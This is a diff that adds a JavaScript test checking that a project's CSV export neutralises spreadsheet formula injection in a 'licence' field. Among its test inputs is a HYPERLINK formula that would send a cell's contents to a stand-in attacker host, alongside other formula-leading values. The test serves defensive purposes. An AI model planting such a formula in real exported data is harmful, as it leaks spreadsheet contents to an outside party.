@@ -135,6 +135,24 @@ test("sources and claims go to CSV and come back as they were", () => {
   assert.deepEqual(withTable(evidence, claimsCsv(evidence), "claims.csv"), evidence);
 });
 
+test("no cell of a table is a formula to a spreadsheet, and each comes back as it was", () => {
+  for (const licence of [
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "-1",
+    "+1",
+    "@SUM(A1)",
+    "'=1",
+    "''",
+    " padded\n",
+    "\t=1",
+  ]) {
+    const written = { ...evidence, sources: evidence.sources.map((each) => ({ ...each, licence })) };
+    const csv = sourcesCsv(written);
+    assert.doesNotMatch(csv, /(?:^|,)"?[=+@\t-]/m, licence);
+    assert.deepEqual(withTable(evidence, csv, "sources.csv"), written, licence);
+  }
+});
+
 test("a wrong cell of a table is named by line and column; a table of something else is refused", () => {
   const csv = sourcesCsv(evidence);
   assert.throws(() => withTable(evidence, csv.replace("think-tank", "tank"), "s.csv"), /s\.csv, line 2: kind/);
